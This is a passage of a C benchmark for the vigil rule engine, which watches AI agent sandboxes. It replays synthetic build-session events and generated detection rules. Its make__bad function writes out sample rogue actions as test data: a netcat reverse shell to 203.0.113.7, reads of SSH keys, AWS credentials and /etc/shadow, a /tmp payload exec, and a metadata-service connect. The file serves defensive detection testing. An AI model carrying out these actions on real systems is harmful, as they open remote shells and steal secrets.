// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * rules_bench: events/s through the rule engine on one core.
 *
 *   rules_bench        (make bench builds it into build/bench/ and runs it)
 *
 * A synthetic agent session is built in memory, records as the collector
 * hands them to the policy: a compile-and-test loop in each of
 * NR_SANDBOXES sandboxes (headers, libraries, Python modules, workspace
 * files, /proc, /etc/ld.so.cache, temp files; execs of cc1, as, ld,
 * python3, sh; forks and exits; loopback connects and flows), each
 * record with its sandbox, process chain and header filled as proctab.c
 * and sandbox.c fill them. About one record in BAD_EVERY is what a rogue
 * agent does (an SSH key, cloud credentials, /etc/shadow, a payload in
 * /tmp, netcat, the metadata service), so alerts, freezes and kills
 * happen at a steady rate.
 *
 * engine__event then scores them, pinned to one CPU, each record's sandbox
 * found by one registry lookup as the collector finds it, and its
 * decision only counted, for two rule sets:
 *   shipped    the rules built into vigil (ruleset__add_builtin);
 *   +generated the same plus BENCH_RULES_EXTRA (1000) rules in the shapes
 *              users write, generated as YAML and loaded through
 *              ruleset__add_text, so the real loader and index see them.
 * A frozen sandbox is thawed (engine__absolve) and a killed one forgotten
 * (engine__forget: the sandbox is gone), as an operator and the policy
 * would, so no sandbox sits out the run at LEVEL_KILL, where the engine
 * skips its records.
 *
 * The two sets run side by side: every round times each once, in an order
 * that alternates; the table shows medians. Timings are reported, never
 * asserted: the exit status is non-zero only when something is broken
 * (rules that do not load, or a session that raised no alert).
 *
 * Beside them, in the same rounds, the same records are scored for
 * novelty against a baseline of BENCH_BASELINE_PATTERNS (10,000)
 * patterns (novelty_bench.c), in ns per record.
 *
 * Knobs (environment): BENCH_RULES_SECS (seconds per run, 1),
 * BENCH_RULES_ROUNDS (5), BENCH_RULES_EXTRA (generated rules, 1000),
 * BENCH_RULES_CPU (the CPU to pin to; default the last one allowed),
 * BENCH_RULES_ONLY (shipped or generated: that set alone for
 * SECS x ROUNDS, nothing compared, for a profiler: `BENCH_RULES_ONLY=generated
 * perf record -g build/bench/rules_bench`).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "clock.h"
#include "engine.h"
#include "novelty_bench.h"
#include "ruleset.h"

#define NR_SANDBOXES	32
#define NR_EVENTS	(1u << 14)	/* replayed in a loop; a power of two */
#define BAD_EVERY	1000		/* one rogue record in this many */
#define BURST_MAX	32		/* records in a row from one sandbox */
#define TICK_NS		1000		/* record time advances 1 us per record */
#define CLOCK_EVERY	1024		/* records between clock reads */
#define WARMUP_SECS	0.3
#define TARGET_EPS	1e6		/* events/s with the shipped rules */
#define TARGET_RATIO	2.0		/* slowdown with the generated rules */
#define TARGET_NOVELTY_NS 200.0		/* a record scored for novelty */

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

static void die(const char *fmt, ...) __attribute__((format(printf, 1, 2), noreturn));

static void die(const char *fmt, ...)
{
	va_list ap;

	fprintf(stderr, "rules-bench: error: ");
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
	exit(1);
}

static double env__num(const char *name, double def)
{
	const char *s = getenv(name);

	return s && *s ? atof(s) : def;
}

static double clock__secs(clockid_t id)
{
	struct timespec ts;

	clock_gettime(id, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* ---------------------------------------------------------------- random */

/* xorshift64*: the same session on every run. */
static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static uint32_t rnd(uint32_t n)
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return (uint32_t)((rng_state * 0x2545f4914f6cdd1dull) >> 32) % n;
}

#define PICK(a) ((a)[rnd(ARRAY_SIZE(a))])

/* Strings the records point into live here for the whole run. */
static char *str__fmt(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static char *str__fmt(const char *fmt, ...)
{
	va_list ap;
	char *s;

	va_start(ap, fmt);
	if (vasprintf(&s, fmt, ap) < 0)
		die("out of memory");
	va_end(ap);
	return s;
}

static struct bytes bytes__of(const char *s)
{
	return (struct bytes){ s, strlen(s) };
}

/* ---------------------------------------------------------------- world */

/* The processes of one sandbox's session, as proctab.c chains them. */
enum role {
	R_SHELL, R_AGENT, R_SH, R_MAKE, R_GCC, R_CC1, R_AS, R_LD, R_PYTEST,
	R_GIT, R_CAT, NR_ROLES
};

static const struct {
	const char *exe;
	const char *comm;
	int parent;
} roles[NR_ROLES] = {
	[R_SHELL] = { "/usr/bin/bash", "bash", -1 },
	[R_AGENT] = { "/usr/bin/python3.11", "python3", R_SHELL },
	[R_SH] = { "/usr/bin/dash", "sh", R_AGENT },
	[R_MAKE] = { "/usr/bin/make", "make", R_SH },
	[R_GCC] = { "/usr/bin/x86_64-linux-gnu-gcc-12", "gcc", R_MAKE },
	[R_CC1] = { "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", "cc1", R_GCC },
	[R_AS] = { "/usr/bin/x86_64-linux-gnu-as", "as", R_GCC },
	[R_LD] = { "/usr/bin/x86_64-linux-gnu-ld.bfd", "ld", R_GCC },
	[R_PYTEST] = { "/usr/bin/python3.11", "pytest", R_SH },
	[R_GIT] = { "/usr/bin/git", "git", R_AGENT },
	[R_CAT] = { "/usr/bin/cat", "cat", R_SH },
};

struct wproc {
	struct proc proc;
	struct vigil_hdr hdr;
};

struct wsandbox {
	struct sandbox sb;
	struct wproc procs[NR_ROLES];
};

static struct wsandbox sandboxes[NR_SANDBOXES];
static struct event events[NR_EVENTS];

static void world__init(void)
{
	for (int i = 0; i < NR_SANDBOXES; i++) {
		struct wsandbox *w = &sandboxes[i];

		w->sb.cgid = 4096 + i;
		w->sb.id = str__fmt("agent-%02d", i);
		w->sb.cgroup = str__fmt("/vigil/agent-%02d", i);
		for (int r = 0; r < NR_ROLES; r++) {
			struct wproc *p = &w->procs[r];
			int parent = roles[r].parent;

			p->proc.pid = 10000 * (i + 1) + r;
			p->proc.ppid = parent >= 0 ? 10000 * (i + 1) + parent : 1;
			snprintf(p->proc.comm, sizeof(p->proc.comm), "%s", roles[r].comm);
			p->proc.exe = (char *)roles[r].exe;
			p->proc.exe_len = strlen(roles[r].exe);
			snprintf(p->proc.exec_id, sizeof(p->proc.exec_id), "%u-%d",
				 p->proc.pid, 1000 + r);
			p->proc.parent = parent >= 0 ? &w->procs[parent].proc : NULL;
			p->hdr.ktime_ns = 0;
			p->hdr.cgroup_id = w->sb.cgid;
			p->hdr.sandbox_cgid = w->sb.cgid;
			p->hdr.pid = p->hdr.tid = p->proc.pid;
			p->hdr.ppid = p->proc.ppid;
			p->hdr.uid = p->hdr.gid = 0;	/* ~ is /root */
			memcpy(p->hdr.comm, p->proc.comm, sizeof(p->hdr.comm));
		}
	}
}

/* ---------------------------------------------------------------- records */

static const char *const headers[] = {
	"stdio.h", "stdlib.h", "string.h", "unistd.h", "errno.h", "stdint.h",
	"fcntl.h", "signal.h", "time.h", "features.h", "sys/types.h",
	"sys/stat.h", "sys/socket.h", "bits/types.h", "bits/wordsize.h",
	"bits/stdint-intn.h", "linux/limits.h", "asm/errno.h",
	"x86_64-linux-gnu/bits/libc-header-start.h",
	"x86_64-linux-gnu/sys/cdefs.h", "x86_64-linux-gnu/gnu/stubs.h",
};

static const char *const py_modules[] = {
	"os", "posixpath", "stat", "abc", "codecs", "io", "enum", "re/__init__",
	"re/_compiler", "functools", "collections/__init__", "typing",
	"json/__init__", "json/decoder", "subprocess", "pathlib", "tempfile",
	"unittest/__init__", "argparse", "logging/__init__", "shutil",
};

static const char *const py_pkgs[] = {
	"pytest", "_pytest", "pluggy", "iniconfig", "packaging", "requests",
	"urllib3", "numpy", "yaml", "attr",
};

static const char *const libs[] = {
	"/etc/ld.so.cache",
	"/usr/lib/x86_64-linux-gnu/libc.so.6",
	"/usr/lib/x86_64-linux-gnu/libm.so.6",
	"/usr/lib/x86_64-linux-gnu/libz.so.1",
	"/usr/lib/x86_64-linux-gnu/libpython3.11.so.1.0",
	"/usr/lib/x86_64-linux-gnu/libexpat.so.1",
	"/usr/lib/x86_64-linux-gnu/crt1.o",
	"/usr/lib/x86_64-linux-gnu/crti.o",
	"/usr/lib/gcc/x86_64-linux-gnu/12/crtbegin.o",
	"/usr/lib/gcc/x86_64-linux-gnu/12/libgcc.a",
	"/usr/lib/gcc/x86_64-linux-gnu/12/liblto_plugin.so",
	"/usr/lib/locale/locale-archive",
};

static const char *const etc_files[] = {
	"/etc/ld.so.cache", "/etc/ld.so.cache", "/etc/ld.so.cache",
	"/etc/passwd", "/etc/nsswitch.conf", "/etc/localtime",
	"/etc/ssl/certs/ca-certificates.crt", "/etc/gitconfig",
	"/dev/null", "/dev/null", "/dev/urandom", "/dev/tty",
};

static const char *const home_files[] = {
	"/root/.gitconfig", "/root/.config/git/config", "/root/.python_history",
	"/root/.cache/pip/selfcheck/241e69162522ccb5846a2f5bbc0e60fc.json",
	"/root/.local/lib/python3.11/site-packages",
	"/root/.cache/pytest/v/cache/lastfailed", "/root/.bashrc",
};

static const char *const proc_files[] = {
	"status", "stat", "maps", "fd", "cgroup", "mountinfo", "cmdline",
};

/* One record of the session's mix, made by a process of sandbox w, in ev. */
typedef void (*make_fn)(struct wsandbox *w, struct event *ev);

static void rec__proc(struct wsandbox *w, struct event *ev, enum role r,
		      enum event_kind kind)
{
	ev->kind = kind;
	ev->sandbox = &w->sb;
	ev->proc = &w->procs[r].proc;
	ev->hdr = &w->procs[r].hdr;
}

static void rec__open(struct wsandbox *w, struct event *ev, enum role r,
		      const char *path, const char *arg, uint32_t flags)
{
	rec__proc(w, ev, r, EVENT_OPEN);
	ev->open.path = bytes__of(path);
	ev->open.arg = bytes__of(arg ? arg : path);
	ev->open.flags = flags | O_CLOEXEC;
	ev->open.ret = 3 + (int)rnd(20);
	ev->open.dev = 0x801;
	ev->open.ino = 100000 + rnd(1000000);
	ev->open.sys = 257;	/* openat */
}

/* cc1 walks the include path: a miss (ENOENT, no resolved path) in the
 * workspace for every header it then finds in /usr/include. */
static void make__header(struct wsandbox *w, struct event *ev)
{
	const char *h = PICK(headers);

	if (rnd(3) == 0) {
		rec__open(w, ev, R_CC1, "", str__fmt("/workspace/proj/include/%s", h),
			  O_RDONLY | O_NOCTTY);
		ev->open.ret = -ENOENT;
		return;
	}
	rec__open(w, ev, R_CC1, str__fmt("/usr/include/%s", h), NULL,
		  O_RDONLY | O_NOCTTY);
}

static void make__python(struct wsandbox *w, struct event *ev)
{
	enum role r = rnd(2) ? R_AGENT : R_PYTEST;
	const char *path;

	switch (rnd(3)) {
	case 0:
		path = str__fmt("/usr/lib/python3.11/%s.py", PICK(py_modules));
		break;
	case 1:
		path = str__fmt("/usr/lib/python3.11/__pycache__/%s.cpython-311.pyc",
				PICK(py_modules));
		break;
	default:
		path = str__fmt("/usr/lib/python3/dist-packages/%s/__init__.py",
				PICK(py_pkgs));
	}
	rec__open(w, ev, r, path, NULL, O_RDONLY);
}

static void make__lib(struct wsandbox *w, struct event *ev)
{
	static const enum role who[] = { R_LD, R_AS, R_GCC, R_SH, R_GIT, R_CAT };

	rec__open(w, ev, PICK(who), PICK(libs), NULL, O_RDONLY);
}

static void make__workspace(struct wsandbox *w, struct event *ev)
{
	static const enum role who[] = { R_CC1, R_AGENT, R_GIT, R_PYTEST, R_LD };
	unsigned m = rnd(12), f = rnd(40);
	const char *path, *arg;

	switch (rnd(5)) {
	case 0:
		path = str__fmt("/workspace/proj/src/mod%u/file%u.c", m, f);
		arg = str__fmt("src/mod%u/file%u.c", m, f);
		break;
	case 1:
		path = str__fmt("/workspace/proj/src/mod%u/file%u.h", m, f);
		arg = str__fmt("file%u.h", f);
		break;
	case 2:
		path = str__fmt("/workspace/proj/tests/test_mod%u.py", m);
		arg = path;
		break;
	case 3:
		path = str__fmt("/workspace/proj/.git/objects/%02x/%08x%030u",
				rnd(256), rnd(1u << 31), f);
		arg = path + strlen("/workspace/proj/");
		break;
	default:
		path = str__fmt("/workspace/proj/build/mod%u/file%u.o", m, f);
		arg = path + strlen("/workspace/proj/");
	}
	rec__open(w, ev, PICK(who), path, arg, rnd(4) ? O_RDONLY : O_WRONLY | O_CREAT | O_TRUNC);
}

static void make__procfs(struct wsandbox *w, struct event *ev)
{
	static const enum role who[] = { R_AGENT, R_PYTEST, R_SH, R_GIT };
	enum role r = PICK(who);
	const char *f = PICK(proc_files);

	rec__open(w, ev, r, str__fmt("/proc/%u/%s", w->procs[r].proc.pid, f),
		  str__fmt("/proc/self/%s", f), O_RDONLY);
}

static void make__etc(struct wsandbox *w, struct event *ev)
{
	static const enum role who[] = { R_AGENT, R_SH, R_GIT, R_CAT, R_MAKE };

	rec__open(w, ev, PICK(who), PICK(etc_files), NULL, O_RDONLY);
}

static void make__tmp(struct wsandbox *w, struct event *ev)
{
	static const enum role who[] = { R_CC1, R_AS, R_GCC };

	rec__open(w, ev, PICK(who), str__fmt("/tmp/cc%06x.s", rnd(1u << 24)),
		  NULL, O_RDWR | O_CREAT | O_EXCL);
}

static void make__home(struct wsandbox *w, struct event *ev)
{
	static const enum role who[] = { R_AGENT, R_GIT, R_PYTEST, R_SHELL };

	rec__open(w, ev, PICK(who), PICK(home_files), NULL, O_RDONLY);
}

static void rec__exec(struct wsandbox *w, struct event *ev, enum role r,
		      const char *file, const char *argv, size_t argv_len,
		      uint32_t argc)
{
	rec__proc(w, ev, r, EVENT_EXEC);
	ev->exec.file = bytes__of(file);
	ev->exec.arg = bytes__of(file);
	ev->exec.argv = (struct bytes){ argv, argv_len };
	ev->exec.argc = argc;
	ev->exec.ret = 0;
	ev->exec.dev = 0x801;
	ev->exec.ino = 200000 + r;
	ev->exec.sys = 59;	/* execve */
}

#define ARGV(s) s, sizeof(s)	/* a literal with NULs, its last included */

static void make__exec(struct wsandbox *w, struct event *ev)
{
	switch (rnd(7)) {
	case 0:
		rec__exec(w, ev, R_CC1, roles[R_CC1].exe,
			  ARGV("cc1\0-quiet\0-Iinclude\0src/main.c\0-O2\0-o\0/tmp/cc1.s"), 7);
		break;
	case 1:
		rec__exec(w, ev, R_AS, roles[R_AS].exe,
			  ARGV("as\0--64\0-o\0build/main.o\0/tmp/cc1.s"), 5);
		break;
	case 2:
		rec__exec(w, ev, R_LD, roles[R_LD].exe,
			  ARGV("ld\0-o\0build/app\0build/main.o\0-lc"), 5);
		break;
	case 3:
		rec__exec(w, ev, R_PYTEST, roles[R_PYTEST].exe,
			  ARGV("python3\0-m\0pytest\0-q\0tests"), 5);
		break;
	case 4:
		rec__exec(w, ev, R_SH, roles[R_SH].exe,
			  ARGV("sh\0-c\0make -j2 && ./build/app"), 3);
		break;
	case 5:
		rec__exec(w, ev, R_GCC, roles[R_GCC].exe,
			  ARGV("gcc\0-O2\0-c\0src/main.c\0-o\0build/main.o"), 6);
		break;
	default:
		rec__exec(w, ev, R_GIT, roles[R_GIT].exe,
			  ARGV("git\0status\0--porcelain"), 3);
	}
}

static void make__fork(struct wsandbox *w, struct event *ev)
{
	static const enum role who[] = { R_SH, R_MAKE, R_GCC, R_AGENT, R_PYTEST };

	rec__proc(w, ev, PICK(who), EVENT_FORK);
	ev->child_pid = 20000 + rnd(30000);
}

static void make__exit(struct wsandbox *w, struct event *ev)
{
	static const enum role who[] = { R_CC1, R_AS, R_LD, R_GCC, R_CAT, R_GIT };

	rec__proc(w, ev, PICK(who), EVENT_EXIT);
	ev->exit_code = rnd(10) ? 0 : 1 << 8;
}

static void sa__inet(struct vigil_sockaddr *sa, int family, const char *addr,
		     uint16_t port)
{
	memset(sa, 0, sizeof(*sa));
	sa->family = family;
	sa->port = port;
	inet_pton(family, addr, sa->addr);
}

/* Loopback: a test server, a language server; and the nscd socket. */
static void make__connect(struct wsandbox *w, struct event *ev)
{
	static const enum role who[] = { R_AGENT, R_PYTEST, R_GIT };
	struct vigil_sockaddr *sa = &ev->connect.sa;

	rec__proc(w, ev, PICK(who), EVENT_CONNECT);
	ev->connect.proto = IPPROTO_TCP;
	ev->connect.sock_type = SOCK_STREAM;
	ev->connect.ret = rnd(2) ? 0 : -EINPROGRESS;
	switch (rnd(4)) {
	case 0:
		sa__inet(sa, AF_INET6, "::1", 8000);
		break;
	case 1:
		memset(sa, 0, sizeof(*sa));
		sa->family = AF_UNIX;
		sa->path_len = strlen("/var/run/nscd/socket");
		memcpy(sa->path, "/var/run/nscd/socket", sa->path_len);
		ev->connect.proto = 0;
		ev->connect.ret = -ENOENT;
		break;
	default:
		sa__inet(sa, AF_INET, "127.0.0.1", 8000 + rnd(4));
	}
}

static void make__flow(struct wsandbox *w, struct event *ev)
{
	struct vigil_flow_key *k = &ev->flow.key;

	ev->kind = EVENT_FLOW;
	ev->sandbox = &w->sb;
	ev->hdr = NULL;
	ev->proc = NULL;
	memset(k, 0, sizeof(*k));
	k->sandbox_cgid = w->sb.cgid;
	k->family = AF_INET;
	inet_pton(AF_INET, "127.0.0.1", k->addr);
	k->port = 8000 + rnd(4);
	k->proto = IPPROTO_TCP;
	ev->flow.val.bytes = 1000 + rnd(100000);
	ev->flow.val.packets = 1 + rnd(100);
	ev->flow.val.send_calls = ev->flow.val.packets;
	ev->flow.val.send_bytes = ev->flow.val.bytes;
	ev->flow.interval_ms = 1000;
}

/* What a rogue agent does; each matches a shipped rule. The metadata
 * connect after a key read is the shipped kill (secret-then-egress). */
static void make__bad(struct wsandbox *w, struct event *ev)
{
	switch (rnd(6)) {
	case 0:
		rec__open(w, ev, R_AGENT, "/root/.ssh/id_rsa", "../../root/.ssh/id_rsa",
			  O_RDONLY);
		break;
	case 1:
		rec__open(w, ev, R_CAT, "/root/.aws/credentials", NULL, O_RDONLY);
		break;
	case 2:
		rec__open(w, ev, R_CAT, "/etc/shadow", NULL, O_RDONLY);
		break;
	case 3:
		rec__exec(w, ev, R_SH, "/tmp/payload", ARGV("/tmp/payload"), 1);
		break;
	case 4:
		rec__exec(w, ev, R_SH, "/usr/bin/nc.openbsd",
			  ARGV("nc\0-e\0/bin/sh\0203.0.113.7\0" "4444"), 5);
		break;
	default:
		make__connect(w, ev);
		sa__inet(&ev->connect.sa, AF_INET, "169.254.169.254", 80);
	}
}

/* The session's mix, per 1000 records (the rogue ones come on top). */
static const struct {
	int weight;
	make_fn make;
} mix[] = {
	{ 280, make__header }, { 150, make__python }, { 100, make__lib },
	{ 130, make__workspace }, { 60, make__procfs }, { 70, make__etc },
	{ 30, make__tmp }, { 20, make__home }, { 35, make__exec },
	{ 40, make__fork }, { 40, make__exit }, { 25, make__connect },
	{ 20, make__flow },
};

static make_fn mix__pick(void)
{
	int total = 0, x;

	for (size_t i = 0; i < ARRAY_SIZE(mix); i++)
		total += mix[i].weight;
	x = (int)rnd(total);
	for (size_t i = 0; i < ARRAY_SIZE(mix); i++) {
		if (x < mix[i].weight)
			return mix[i].make;
		x -= mix[i].weight;
	}
	return mix[0].make;
}

/* Records come in bursts from one sandbox, as a busy sandbox fills the
 * ring buffer. */
static void events__init(void)
{
	struct wsandbox *w = &sandboxes[0];
	uint32_t left = 0;

	for (uint32_t i = 0; i < NR_EVENTS; i++) {
		if (!left) {
			w = &sandboxes[rnd(NR_SANDBOXES)];
			left = 1 + rnd(BURST_MAX);
		}
		left--;
		if (rnd(BAD_EVERY) == 0)
			make__bad(w, &events[i]);
		else
			mix__pick()(w, &events[i]);
	}
}

/* ---------------------------------------------------------------- rules */

static const char *const tools[] = {
	"acme", "zeta", "orbit", "quill", "nimbus", "vault", "harbor", "lumen",
	"cobalt", "fjord", "garnet", "helix", "ion", "juniper", "krypton",
	"lattice", "mosaic", "nectar", "onyx", "prism", "quartz", "raven",
	"sable", "tundra", "umber", "vertex", "willow", "xenon", "yarrow",
	"zephyr", "aspen", "birch", "cedar", "delta", "ember", "flint",
};

/* A name unique to generated rule i: a tool and a number. */
static const char *tool__name(int i, char *buf, size_t len)
{
	snprintf(buf, len, "%s%d", tools[i % ARRAY_SIZE(tools)],
		 i / (int)ARRAY_SIZE(tools));
	return buf;
}

static void rule__head(FILE *f, const char *shape, int i, const char *event)
{
	static const char *const sev[] = { "low", "medium", "high" };

	fprintf(f, "- rule: gen-%s-%d\n", shape, i);
	fprintf(f, "  description: generated rule %d (%s)\n", i, shape);
	fprintf(f, "  event: %s\n", event);
	fprintf(f, "  severity: %s\n", sev[i % 3]);
	fprintf(f, "  score: %d\n", 5 + i % 30);
}

/* Rule i in one of the shapes users write; t is its own name. */
typedef void (*shape_fn)(FILE *f, int i, const char *t);

static void shape__prefix(FILE *f, int i, const char *t)
{
	static const char *const dirs[][2] = {
		{ "/opt/", "/secrets/" }, { "/var/lib/", "/keys/" },
		{ "/srv/", "/private/" }, { "/etc/", "/tokens/" },
	};
	const char *const *d = dirs[i % ARRAY_SIZE(dirs)];

	rule__head(f, "prefix", i, "open");
	fprintf(f, "  when: 'open.path startswith \"%s%s%s\"'\n", d[0], t, d[1]);
}

/* Deep under a path ordinary work opens all the time. */
static void shape__pkg(FILE *f, int i, const char *t)
{
	rule__head(f, "pkg", i, "open");
	fprintf(f, "  when: 'open.path startswith \"/usr/lib/python3/dist-packages/%s/\"'\n",
		t);
}

static void shape__home(FILE *f, int i, const char *t)
{
	rule__head(f, "home", i, "open");
	fprintf(f, "  when: 'open.path startswith \"~/.config/%s/\"'\n", t);
}

static void shape__and_not(FILE *f, int i, const char *t)
{
	rule__head(f, "andnot", i, "open");
	fprintf(f, "  when: >\n    open.path startswith \"/var/lib/%s/\"\n"
		"    and not proc.name in (%s, %s-agent, %sd)\n", t, t, t, t);
}

static void shape__exact(FILE *f, int i, const char *t)
{
	rule__head(f, "exact", i, "open");
	if (i % 3)
		fprintf(f, "  when: 'open.path == \"/etc/%s/credentials.json\"'\n", t);
	else
		fprintf(f, "  when: 'open.path == \"~/.%s/token\"'\n", t);
}

static void shape__in(FILE *f, int i, const char *t)
{
	rule__head(f, "in", i, "open");
	fprintf(f, "  when: >\n    open.path in (/etc/%s/server.key, /etc/%s/client.key,\n"
		"    \"~/.%s/credentials\", /var/lib/%s/db.sqlite)\n", t, t, t, t);
}

static void shape__glob(FILE *f, int i, const char *t)
{
	rule__head(f, "glob", i, "open");
	if (i % 2)
		fprintf(f, "  when: 'open.path glob \"/srv/%s/*.pem\"'\n", t);
	else
		fprintf(f, "  when: 'open.path glob \"~/.%s/*token*\"'\n", t);
}

/* Globs whose literal head is a directory ordinary work opens often. */
static void shape__glob_wide(FILE *f, int i, const char *t)
{
	static const char *const pats[] = {
		"/proc/*/environ", "/proc/*/mem", "/workspace/*/.env*",
		"/etc/*/private/*", "/usr/lib/*/libcrypt*.so*",
	};

	rule__head(f, "globwide", i, "open");
	fprintf(f, "  when: 'open.path glob \"%s\" and not proc.name == %s'\n",
		pats[(i / 200) % ARRAY_SIZE(pats)], t);
}

static void shape__exec_name(FILE *f, int i, const char *t)
{
	rule__head(f, "execname", i, "exec");
	if (i % 2)
		fprintf(f, "  when: 'exec.name in (%s, %sd, %s-cli)'\n", t, t, t);
	else
		fprintf(f, "  when: 'exec.ret == 0 and exec.name in (%s, %s-cli)'\n",
			t, t);
}

static void shape__exec_file(FILE *f, int i, const char *t)
{
	rule__head(f, "execfile", i, "exec");
	fprintf(f, "  when: 'exec.file startswith \"/opt/%s/bin/\"'\n", t);
}

static void shape__proc_exe(FILE *f, int i, const char *t)
{
	rule__head(f, "procexe", i, "open");
	fprintf(f, "  when: >\n    proc.exe glob \"/opt/%s/bin/*\"\n"
		"    and open.path startswith \"/data/\"\n", t);
}

static void shape__connect(FILE *f, int i, const char *t)
{
	rule__head(f, "connect", i, "connect");
	fprintf(f, "  when: >\n    connect.addr in (10.%d.0.0/16, 192.168.%d.0/24, \"fd%02x::/16\")\n"
		"    and connect.port in (22, 3389, %d)\n", i % 256, i % 256,
		i % 256, 1024 + i);
}

static void shape__flow(FILE *f, int i, const char *t)
{
	rule__head(f, "flow", i, "flow");
	fprintf(f, "  when: 'flow.addr in (203.0.%d.0/24) and flow.bytes > %d'\n",
		i % 256, 1000000 + i);
}

static void shape__window_count(FILE *f, int i, const char *t)
{
	rule__head(f, "wcount", i, "open");
	fprintf(f, "  when: 'open.path startswith \"/data/%s/\"'\n", t);
	fprintf(f, "  window: {count: true, over: 10s, above: %d}\n", 20 + i % 50);
}

static void shape__window_distinct(FILE *f, int i, const char *t)
{
	rule__head(f, "wdistinct", i, "connect");
	fprintf(f, "  when: 'connect.port == %d and not connect.addr in (127.0.0.0/8, \"::1\")'\n",
		1024 + i);
	fprintf(f, "  window: {distinct: connect.addr, over: 60s, above: 20}\n");
}

/* The shapes, per 200 rules. */
static const struct {
	int weight;
	shape_fn fn;
	const char *what;
} shapes[] = {
	{ 33, shape__prefix, "open.path startswith" },
	{ 10, shape__pkg, "startswith deep in dist-packages" },
	{ 16, shape__home, "startswith ~/" },
	{ 14, shape__and_not, "startswith and not proc.name in" },
	{ 33, shape__exact, "open.path ==" },
	{ 20, shape__in, "open.path in (4 paths)" },
	{ 25, shape__glob, "open.path glob" },
	{ 1, shape__glob_wide, "glob with a wide head (/proc/*/environ)" },
	{ 20, shape__exec_name, "exec.name in" },
	{ 6, shape__exec_file, "exec.file startswith" },
	{ 10, shape__proc_exe, "proc.exe glob and open.path startswith" },
	{ 5, shape__connect, "connect.addr in CIDRs and port" },
	{ 2, shape__flow, "flow.addr in CIDR and bytes" },
	{ 3, shape__window_count, "windowed count of opens" },
	{ 2, shape__window_distinct, "windowed distinct connect.addr" },
};

static size_t shape__of(int i)
{
	int x = i % 200;

	for (size_t s = 0; s < ARRAY_SIZE(shapes); s++) {
		if (x < shapes[s].weight)
			return s;
		x -= shapes[s].weight;
	}
	return 0;
}

/* n rules as one YAML text; *len set. */
static char *rules__generate(int n, size_t *len)
{
	char *text = NULL, name[64];
	FILE *f = open_memstream(&text, len);

	if (!f)
		die("open_memstream: %s", strerror(errno));
	fprintf(f, "# %d rules generated by bench/rules_bench.c\n", n);
	for (int i = 0; i < n; i++)
		shapes[shape__of(i)].fn(f, i, tool__name(i, name, sizeof(name)));
	if (fclose(f))
		die("generating rules: %s", strerror(errno));
	return text;
}

static void rules__load(struct ruleset *rs, int extra)
{
	if (ruleset__init(rs))
		die("out of memory");
	ruleset__add_builtin(rs);
	if (extra > 0) {
		size_t len;
		char *text = rules__generate(extra, &len);

		ruleset__add_text(rs, "generated.yaml", text, len);
		free(text);
	}
	if (ruleset__finish(rs) || rs->errors)
		die("rules rejected (%d errors), first: %s", rs->errors,
		    rs->first_error);
}

/* ---------------------------------------------------------------- engine */

struct bench {
	const char *name;
	struct ruleset rs;
	struct engine *engine;
	/* The engine's state lives in the sandboxes' records: each bench
	 * keeps its own, found by one lookup per record as the collector
	 * finds them. */
	struct sandboxes *sandboxes;
	uint64_t clock_ns;	/* record time, monotonic per engine */
	uint32_t next;		/* the next record to score */
	/* decision tallies */
	uint64_t alerts;
	uint64_t acts[LEVEL_KILL + 1];
	/* per round */
	double eps[64];
	double cands[64];
	int runs;
	int preempted;		/* runs that lost the CPU to someone else */
};

/* What follows an act outside the engine: a human thaws a frozen sandbox;
 * a killed one is gone. */
static void bench__settle(struct bench *b, struct sandbox *sb,
			  const struct decision *d)
{
	b->acts[d->act]++;
	if (d->act == LEVEL_KILL)
		engine__forget(b->engine, sb);
	else if (d->act == LEVEL_FREEZE)
		engine__absolve(sb);
}

static void bench__init(struct bench *b, const char *name, int extra)
{
	b->name = name;
	rules__load(&b->rs, extra);
	b->engine = engine__new(&b->rs);
	b->sandboxes = sandboxes__new(NULL);
	if (!b->engine || !b->sandboxes ||
	    sandboxes__listen(b->sandboxes, &(struct sandbox_hooks){
		    .removed = engine__forget, .ctx = b->engine }))
		die("out of memory");
	b->clock_ns = 1000000000ull;
}

static inline void bench__one(struct bench *b)
{
	struct event *ev = &events[b->next++ & (NR_EVENTS - 1)];
	struct sandbox *proto = ev->sandbox;
	const struct decision *d;

	b->clock_ns += TICK_NS;
	ev->ktime_ns = b->clock_ns;
	ev->sandbox = sandboxes__add(b->sandboxes, proto);
	d = engine__event(b->engine, ev);
	b->alerts += d->nr_matches;
	if (__builtin_expect(d->act != LEVEL_NONE, 0))
		bench__settle(b, ev->sandbox, d);
	ev->sandbox = proto;
}

/* Scores records for secs; returns how many. *cpu_share: the thread's
 * CPU time over the wall time it took. */
static uint64_t bench__run(struct bench *b, double secs, double *wall,
			   double *cpu_share)
{
	double t0 = clock__secs(CLOCK_MONOTONIC), t;
	double c0 = clock__secs(CLOCK_THREAD_CPUTIME_ID);
	uint64_t n = 0;

	do {
		for (int i = 0; i < CLOCK_EVERY; i++)
			bench__one(b);
		n += CLOCK_EVERY;
		t = clock__secs(CLOCK_MONOTONIC);
	} while (t - t0 < secs);
	*wall = t - t0;
	*cpu_share = (clock__secs(CLOCK_THREAD_CPUTIME_ID) - c0) / *wall;
	return n;
}

static void bench__measure(struct bench *b, double secs)
{
	uint64_t c0 = engine__stats(b->engine)->candidates;
	uint64_t e0 = engine__stats(b->engine)->events;
	double wall, share;
	uint64_t n = bench__run(b, secs, &wall, &share);
	const struct engine_stats *s = engine__stats(b->engine);

	/* Per second of the thread's CPU time: a run that lost the CPU to
	 * other work for a while still measures the engine, not the box. */
	b->eps[b->runs] = n / (wall * share);
	b->cands[b->runs] = (double)(s->candidates - c0) / (s->events - e0);
	b->runs++;
	if (share < 0.95)
		b->preempted++;
}

/* Candidates per record of each kind, over one pass of the session. */
static void bench__by_kind(struct bench *b, double *per_kind, int kinds)
{
	uint64_t cands[EV_KINDS] = { 0 }, count[EV_KINDS] = { 0 };

